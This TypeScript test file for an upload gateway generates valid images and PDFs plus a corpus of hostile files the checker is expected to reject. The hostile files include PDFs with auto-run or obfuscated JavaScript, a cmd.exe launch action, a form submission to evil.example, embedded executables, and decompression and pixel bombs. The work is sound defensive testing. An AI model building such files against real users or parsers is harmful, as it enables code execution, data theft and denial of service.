import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { checkDocument } from '../../../gateway/documents/check-document';

/* Generated files: good ones, and a corpus of bad ones, each with the reason for its refusal. */

const latin1 = (text: string) => Buffer.from(text, 'latin1');

interface PdfParts {
  /** Objects besides catalog, pages and page, from number 4 on. */
  extraObjects?: readonly (string | Buffer)[];
  catalog?: string;
  page?: string;
  trailer?: string;
}

/** A PDF of one page, with a table of its objects. */
export function pdf(
  title: string,
  { extraObjects: more = [], catalog = '', page = '', trailer = '' }: PdfParts = {},
): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${page}>>`,
    ...more,
  ];
  const pieces = [latin1('%PDF-1.7\n')];
  const offsets: number[] = [];
  const length = () => pieces.reduce((sum, piece) => sum + piece.length, 0);
  objects.forEach((object, at) => {
    offsets.push(length());
    pieces.push(latin1(`${at + 1} 0 obj\n`), Buffer.from(object as string, 'latin1'), latin1('\nendobj\n'));
  });
  const start = length();
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  pieces.push(
    latin1(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`),
    latin1(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R/Info<</Title(${title})>>${trailer}>>\n`),
    latin1(`startxref\n${start}\n%%EOF\n`),
  );
  return Buffer.concat(pieces);
}

/** A PDF of about `size` bytes. */
export const pdfOf = (title: string, size: number) => {
  const filler = Buffer.alloc(size, 'portico ');
  return pdf(title, { extraObjects: [stream('', filler)] });
};

/** The form in which the gateway stores an uploaded file. */
export async function acceptedBytes(upload: Buffer): Promise<Buffer> {
  const file = await checkDocument(upload);
  if (typeof file === 'string') throw new Error(file);
  return file.bytes;
}

export const stream = (dict: string, data: Buffer) =>
  Buffer.concat([latin1(`<</Length ${data.length}${dict}>>\nstream\n`), data, latin1('\nendstream')]);
export const compressedStream = (dict: string, data: Buffer) =>
  stream(`/Filter/FlateDecode${dict}`, deflateSync(data));
/** An object in a compressed stream, whose text is not in the bytes of the file. */
const hiddenObject = (object: string) =>
  compressedStream('/Type/ObjStm/N 1/First 4', latin1(`9 0 ${object}`));

export const canvas = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#8fa' } });
export const png = (width = 40, height = 30) => canvas(width, height).png().toBuffer();
/** A photo with a camera's metadata. */
export const jpeg = (width = 40, height = 30) =>
  canvas(width, height)
    .withExif({ IFD0: { Copyright: 'where-it-was-taken', Orientation: '6' } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();

const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
const overwriteMiddle = (bytes: Buffer) => {
  const copy = Buffer.from(bytes);
  copy.fill(0xff, Math.floor(copy.length * 0.3), Math.floor(copy.length * 0.7));
  return copy;
};

/** The header of a PNG that promises far more pixels than it has. */
async function hugePng(): Promise<Buffer> {
  const bytes = Buffer.from(await png());
  bytes.writeUInt32BE(60_000, 16);
  bytes.writeUInt32BE(60_000, 20);
  bytes.writeUInt32BE(crc(bytes.subarray(12, 29)), 29);
  return bytes;
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
  }
  return (value ^ 0xffffffff) >>> 0;
}

type BadFile = readonly [name: string, reason: string, bytes: Buffer];

/** Forty files that are no documents, or contain more than a document. */
export async function badFiles(): Promise<readonly BadFile[]> {
  const [aPng, aJpeg, huge] = [await png(), await jpeg(), await hugePng()];
  const gif = await canvas(8, 8).gif().toBuffer();
  const webp = await canvas(8, 8).webp().toBuffer();
  const tiff = await canvas(8, 8).tiff().toBuffer();
  const zip = latin1('PK\x03\x04\x14\0\0\0\0\0pay.pdf');
  const action = (body: string) => pdf('action', { catalog: `/OpenAction ${body}` });
  const bad = (reason: string, name: string, bytes: Buffer): BadFile => [name, reason, bytes];
  return [
    bad('wrong-content', 'text', latin1('My passport number is 12345678.')),
    bad('wrong-content', 'a single byte', latin1('%')),
    bad('wrong-content', 'zeros', Buffer.alloc(500)),
    bad(
      'wrong-content',
      'SVG with a handler',
      latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ),
    bad('wrong-content', 'HTML', latin1('<!doctype html><script>alert(1)</script>')),
    bad('wrong-content', 'HTML with a PDF header further down', latin1('<html>\n%PDF-1.7\n%%EOF\n')),
    bad('wrong-content', 'a PDF after other bytes', Buffer.concat([latin1('GIF89a'), pdf('late')])),
    bad('wrong-content', 'ZIP', zip),
    bad('wrong-content', 'a Windows program', latin1('MZ\x90\0\x03\0\0\0')),
    bad('wrong-content', 'a Linux program', latin1('\x7fELF\x02\x01\x01')),
    bad('wrong-content', 'GIF', gif),
    bad('wrong-content', 'WebP', webp),
    bad('wrong-content', 'TIFF', tiff),
    bad('wrong-content', 'PostScript', latin1('%!PS-Adobe-3.0\nshowpage\n%%EOF\n')),
    bad('wrong-content', 'PNG without its end', half(aPng)),
    bad('wrong-content', 'JPEG without its end', half(aJpeg)),
    bad('wrong-content', 'PDF without its end', half(pdf('half'))),
    bad('wrong-content', 'PDF and ZIP in one', Buffer.concat([pdf('both'), zip])),
    bad(
      'wrong-content',
      'PDF followed by a script page',
      Buffer.concat([pdf('both'), latin1('<script>1</script>')]),
    ),
    bad('damaged', 'a JPEG header without a picture', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0xff, 0xd9])),
    bad(
      'damaged',
      'a PNG header without a picture',
      Buffer.concat([aPng.subarray(0, 8), latin1('\0\0\0\0IEND\xae\x42\x60\x82')]),
    ),
    bad('damaged', 'a PNG overwritten in the middle', overwriteMiddle(await png(200, 200))),
    bad('damaged', 'a PDF header without objects', latin1('%PDF-1.7\n%%EOF\n')),
    bad('damaged', 'a PDF of random words', latin1(`%PDF-1.7\n${'words '.repeat(50)}\n%%EOF\n`)),
    bad(
      'damaged',
      'a PDF without a page',
      latin1(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
    ),
    bad(
      'damaged',
      'a PDF that decompresses to 200 MB',
      pdf('bomb', { extraObjects: [compressedStream('', Buffer.alloc(200 * 1024 * 1024))] }),
    ),
    bad('too-many-pixels', 'a PNG that decompresses to 14 GB', huge),
    bad(
      'encrypted',
      'a PDF with a password',
      pdf('locked', {
        trailer: '/Encrypt 4 0 R/ID[<00><00>]',
        extraObjects: [`<</Filter/Standard/V 1/R 2/O(${'o'.repeat(32)})/U(${'u'.repeat(32)})/P -4>>`],
      }),
    ),
    bad('script', 'JavaScript when opened', action('<</S/JavaScript/JS(app.alert\\(1\\))>>')),
    bad(
      'script',
      'JavaScript under another spelling',
      action('<</S/#4a#61vaScript/#4AS(app.alert\\(1\\))>>'),
    ),
    bad(
      'script',
      'JavaScript among the names',
      pdf('names', {
        catalog: '/Names<</JavaScript<</Names[(a) 4 0 R]>>>>',
        extraObjects: ['<</S/JavaScript/JS(1)>>'],
      }),
    ),
    bad(
      'script',
      'JavaScript when a page is opened',
      pdf('page', { page: '/AA<</O<</S/JavaScript/JS(1)>>>>' }),
    ),
    bad(
      'script',
      'JavaScript in a compressed part',
      pdf('packed', { extraObjects: [hiddenObject('<</S/JavaScript/JS(1)>>')] }),
    ),
    bad(
      'script',
      'a form with scripts',
      pdf('xfa', { catalog: '/AcroForm<</XFA 4 0 R>>', extraObjects: [stream('', latin1('<xdp/>'))] }),
    ),
    bad(
      'script',
      'JavaScript that a later part replaces',
      Buffer.concat([
        pdf('first', { extraObjects: ['<</S/JavaScript/JS(1)>>'] }),
        latin1('4 0 obj\n<<>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
      ]),
    ),
    bad('launch-action', 'starts a program', action('<</S/Launch/F(cmd.exe)>>')),
    bad('launch-action', 'sends a form', action('<</S/SubmitForm/F(http://evil.example)>>')),
    bad(
      'launch-action',
      'starts a program, in a compressed part',
      pdf('packed', { extraObjects: [hiddenObject('<</S/Launch/F(cmd.exe)>>')] }),
    ),
    bad(
      'embedded-file',
      'contains a file',
      pdf('carrier', {
        catalog: '/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>',
        extraObjects: [
          '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
          stream('/Type/EmbeddedFile', latin1('MZ')),
        ],
      }),
    ),
    bad(
      'embedded-file',
      'contains a file in a note',
      pdf('note', { page: '/Annots[<</Type/Annot/Subtype/FileAttachment/FS<</F(a)>>>>]' }),
    ),
    bad(
      'embedded-file',
      'contains a film',
      pdf('film', { page: '/Annots[<</Type/Annot/Subtype/RichMedia>>]' }),
    ),
  ];
}
